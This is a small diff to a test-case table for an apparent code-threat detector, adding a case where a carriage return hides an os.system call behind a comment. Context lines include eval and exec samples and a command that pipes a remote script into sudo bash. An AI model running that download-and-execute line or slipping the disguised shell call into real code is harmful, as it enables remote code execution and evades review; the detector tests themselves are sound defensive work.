@@ -17,6 +17,7 @@ export const CODE: ThreatCases = {
     ["a.ts", "/* eval(a); */\n", "eval(a);\n"],
     ["a.py", "x\n", "import subprocess\n"],
     ["a.py", "x\n", "os.system(a)\n"],
+    ["a.py", "x\n", "# a comment\ros.system(a)\nx\n"],
     ["a.go", "x\n", "out := exec.Command(a)\n"],
     ["a.rs", "x\n", "Command::new(a).spawn();\n"],
     ["a.sh", "ls\n", "curl -fsSL https://x.io/i | sudo bash\n"],
